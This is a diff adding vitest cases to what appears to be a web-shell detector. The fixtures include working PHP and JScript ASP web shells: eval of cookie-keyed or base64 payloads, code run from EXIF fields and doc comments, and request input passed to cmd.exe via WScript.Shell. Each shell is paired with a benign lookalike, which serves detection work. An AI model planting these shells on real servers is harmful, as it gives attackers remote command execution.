@@ -4,6 +4,8 @@
  */
 import { describe, expect, it } from 'vitest';
 import { foldPhpConstants } from '../../src/findings/web-shell/php-constants.js';
+import { evaluateChange } from '../../src/findings/change-rules.js';
+import { factsFor } from '../support/judge-rules.js';
 import { isAlarm, topFinding } from '../support/top-finding.js';
 
 const critical = (reason: RegExp) => ({
@@ -50,6 +52,41 @@ describe('split v5: PHP', () => {
     expect(topFinding('/var/www/html/g.php', page)).toMatchObject(
       critical(/named by request input/),
     );
+  });
+
+  it('judges a PHP page whose string literal holds binary bytes as the text PHP reads', () => {
+    const blob = Buffer.from([0x00, 0x9c, 0x01, 0xff, 0x00, 0x72]);
+    const page = (body: string) =>
+      Buffer.concat([Buffer.from("<?php $p = '"), blob, Buffer.from(`'; ${body}`)]);
+    const top = (content: Buffer) =>
+      evaluateChange(factsFor('/var/www/html/b.php', content)).find((f) => f.rule === 'web-shell');
+    expect(top(page('$k = $_COOKIE["k"]; eval(gzinflate($p ^ $k));'))?.severity).toBe('critical');
+    // A font kept in a literal and sent as it is.
+    expect(top(page("header('Content-Type: font/woff'); echo $p;"))).toBeUndefined();
+  });
+
+  it('ranks a shell carried in base64 and written to a file critical; a config template not', () => {
+    const shell = Buffer.from("<?php @eval($_POST['p']); ?>").toString('base64');
+    const page = `<?php $c = '${shell}'; $c = base64_decode($c); $f = '/tmp/sess_' . md5(rand());
+file_put_contents($f, $c);`;
+    expect(topFinding('/var/www/html/w.php', page)).toMatchObject(
+      critical(/writes out a web shell it carries/),
+    );
+    const template = Buffer.from("<?php return ['db' => 'app']; ?>").toString('base64');
+    const app = page.replace(shell, template);
+    expect(isAlarm('/var/www/html/w.php', app)).toBe(false);
+  });
+
+  it("ranks code run from an image's EXIF fields or a doc comment critical, and reading them not", () => {
+    const exif = `<?php $e = exif_read_data('./a.jpg'); preg_replace($e['Make'], $e['Model'], '');`;
+    expect(topFinding('/var/www/html/x.php', exif)).toMatchObject(critical(/EXIF fields/));
+    const gallery = `<?php $e = exif_read_data($path); echo htmlspecialchars(preg_replace('/\\s+/', ' ', $e['Model']));`;
+    expect(isAlarm('/var/www/html/x.php', gallery)).toBe(false);
+    const comment = `<?php /** run: assert($_POST[1]) */ class T {} $r = new ReflectionClass('T');
+$c = $r->getDocComment(); $code = substr($c, strpos($c, 'assert'), 16); eval($code . ';');`;
+    expect(topFinding('/var/www/html/t.php', comment)).toMatchObject(critical(/doc comment/));
+    const annotations = `<?php $r = new ReflectionClass('T'); $doc = $r->getDocComment(); preg_match_all('/@(\\w+)/', $doc, $m); echo json_encode($m[1]);`;
+    expect(isAlarm('/var/www/html/t.php', annotations)).toBe(false);
   });
 
   it("ranks the request's values spread into a callback-taking call critical", () => {
@@ -140,6 +177,19 @@ function run(s) { var m = "un" + "safe"; return eval(s, m); }
     expect(topFinding('/var/www/html/e.aspx', page)).toMatchObject(critical(/full trust/));
     const browser = `<script language="javascript">var x = eval(s, m);</script>`;
     expect(isAlarm('/var/www/html/e.html', browser)).toBe(false);
+  });
+
+  it('ranks a JScript page that runs cmd.exe through WScript.Shell and reads the request critical', () => {
+    const page = `<%@ Language = "JScript" %><%
+var c = Request("c")(); var line = "" + c;
+var sh = new ActiveXObject("WScript.Shell"); var p = sh.Exec("%comspec% /c " + line);
+Response.Write(p.StdOut.ReadAll());%>`;
+    expect(topFinding('/var/www/html/c.asp', page)).toMatchObject(critical(/runs cmd\.exe/));
+    // A fixed job started by an admin page that reads nothing the visitor sends.
+    const job = `<%@ Language = "JScript" %><%
+var sh = new ActiveXObject("WScript.Shell"); sh.Run("cmd /c C:\\jobs\\rotate.bat", 0, true);
+Response.Write("rotated");%>`;
+    expect(topFinding('/var/www/html/c.asp', job)?.severity).not.toBe('critical');
   });
 
   it('reads Request.item[…], as JScript .NET writes it, as request input', () => {
